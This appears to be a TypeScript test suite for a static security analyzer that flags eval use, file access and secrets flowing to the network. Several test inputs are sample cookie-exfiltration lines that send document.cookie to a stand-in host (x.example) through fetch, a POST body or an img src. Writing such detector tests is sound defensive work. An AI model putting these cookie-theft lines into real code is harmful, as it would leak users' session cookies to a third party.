import fc from 'fast-check';
import { analyze } from './analyze.ts';
import { analyzeText, findingsOf, MANIFEST } from './testing/analyze-text.ts';

describe('an analysis', () => {
  it('points at the place, shows it, and says why and how to fix it', async () => {
    const { findings } = await analyzeText('const a = 1;\n  eval(input);\n');
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'eval-code',
        file: 'a.js',
        line: 2,
        column: 3,
        endLine: 2,
        endColumn: 14,
        excerpt: 'eval(input)',
        cwe: 95,
      }),
    ]);
    expect(findings[0]?.why).not.toBe('');
    expect(findings[0]?.fix).not.toBe('');
  });

  it('keeps the ids of findings when lines move, and tells equal ones apart', async () => {
    const before = await analyzeText('eval(x);\neval(x);\n');
    const after = await analyzeText('// new\n\neval(x);\n\n\neval(x);\n');
    expect(after.findings.map(({ id }) => id)).toEqual(before.findings.map(({ id }) => id));
    expect(new Set(before.findings.map(({ id }) => id)).size).toBe(2);
  });

  it('says the same on every run, whatever the order of the files', async () => {
    const files = [
      ['b.js', 'eval(x)'],
      ['a.js', 'fetch("https://x.example/" + document.cookie)'],
    ] as const;
    const one = await analyze({ files: new Map(files), manifest: MANIFEST });
    const other = await analyze({ files: new Map(files.toReversed()), manifest: MANIFEST });
    expect(other).toEqual(one);
  });

  it('traces a secret from where it is read to where it leaves', async () => {
    const { findings } = await analyzeText(
      "const c = document.cookie;\nconst b = btoa(c);\nfetch('https://x.example', { method: 'POST', body: b });\n",
    );
    const flow = findings.find(({ ruleId }) => ruleId === 'secret-to-network')?.flow ?? [];
    expect(flow[0]).toMatchObject({ line: 1, label: 'source: document.cookie' });
    expect(flow.at(-1)).toMatchObject({ line: 3, label: 'sink: fetch' });
  });

  it('does not mix the secrets of one object with the rest of it', async () => {
    expect(
      await findingsOf(
        "const o = { cookie: document.cookie, name: 'x' };\nfetch('https://x.example/' + o.name);",
      ),
    ).toEqual([]);
  });

  it('reports broken syntax as a finding and still analyses the rest', async () => {
    const { findings, errors } = await analyze({
      files: new Map([
        ['bad.js', 'const = 1;'],
        ['good.js', 'eval(x)'],
      ]),
    });
    expect(findings.map(({ ruleId, file }) => `${ruleId} ${file}`)).toEqual([
      'eval-code good.js',
      'syntax-error bad.js',
    ]);
    expect(errors).toEqual([]);
  });

  it('names a file that is too large instead of skipping it', async () => {
    const { errors } = await analyze({
      files: new Map([['a.js', 'x;'.repeat(100)]]),
      limits: { fileCharacters: 50 },
    });
    expect(errors).toEqual([
      {
        cause: 'limit',
        file: 'a.js',
        message: 'The file has 200 characters; at most 50 are analysed. Split it.',
      },
    ]);
  });

  it('names a file that has too many nodes', async () => {
    const { errors } = await analyze({ files: new Map([['a.js', 'x;'.repeat(100)]]), limits: { nodes: 50 } });
    expect(errors).toEqual([{ cause: 'limit', file: 'a.js', message: 'More than 50 syntax nodes.' }]);
  });

  it('names the first file that the time of its package did not suffice for, and how many follow', async () => {
    const files = new Map([
      ['a.js', 'eval(x);'],
      ['b.js', 'eval(x);'],
    ]);
    const { errors, findings } = await analyze({ files, limits: { packageMilliseconds: -1 } });
    expect(errors).toMatchObject([{ cause: 'limit', file: 'a.js' }]);
    expect(errors[0]?.message).toContain('this file and 1 more were not read');
    expect(findings).toEqual([]);
  });

  it('tells which file it reads, before it does', async () => {
    const told: string[] = [];
    const files = new Map([
      ['b.js', ''],
      ['a.js', '('],
      ['c.md', ''],
    ]);
    await analyze({ files, onFile: (file) => told.push(file) });
    expect(told.slice(-2)).toEqual(['a.js', 'b.js']);
    expect(told).not.toContain('c.md');
  });

  it('survives nesting that would exhaust a stack', async () => {
    const { errors, findings } = await analyzeText(`${'a+\n'.repeat(3000)}a;\neval(x);`);
    expect(errors).toEqual([]);
    expect(findings.map(({ ruleId }) => ruleId)).toEqual(['eval-code']);
  });

  it('reads TypeScript and JSX', async () => {
    expect(await findingsOf('const f = eval as (x: string) => void; f(code!);', { file: 'a.ts' })).toEqual([
      'eval-code critical',
    ]);
    expect(
      await findingsOf('export const A = () => <img src={`https://x.example/${document.cookie}`} />;', {
        file: 'a.jsx',
      }),
    ).toEqual(['secret-to-network critical']);
  });

  it('is stricter with a plugin than with a library', async () => {
    const text = "import { readFile } from 'node:fs/promises';\nexport const read = (p) => readFile(p);";
    expect(await findingsOf(text)).toEqual(['file-access info']);
    expect(await findingsOf(text, { manifest: MANIFEST })).toEqual(
      expect.arrayContaining(['file-access medium']),
    );
  });

  it('follows a secret that another file hands over', async () => {
    const { findings } = await analyze({
      files: new Map([
        ['a.js', "import { c } from './b.js';\nfetch('https://x.example/' + c);"],
        ['b.js', 'export const c = document.cookie;'],
      ]),
    });
    expect(findings.map(({ ruleId, file }) => `${ruleId} ${file}`)).toEqual(['secret-to-network a.js']);
  });

  it('sees a secret inside of markup that loads an address', async () => {
    expect(
      await findingsOf("el.innerHTML = '<img src=\"https://x.example/' + document.cookie + '\">';"),
    ).toEqual(['secret-to-network critical', 'data-in-markup high']);
  });

  it('answers for any text at all, without an error', async () => {
    const words = fc.constantFrom(
      'eval',
      '(',
      ')',
      'x',
      '=',
      '{',
      '}',
      '...',
      '=>',
      'this',
      '.',
      '[',
      ']',
      "'a'",
      ';',
      'process.env',
      'fetch',
      'class',
      'new ',
      ',',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(words, { maxLength: 40 }), async (parts) => {
        const { errors } = await analyzeText(parts.join(''));
        expect(errors).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
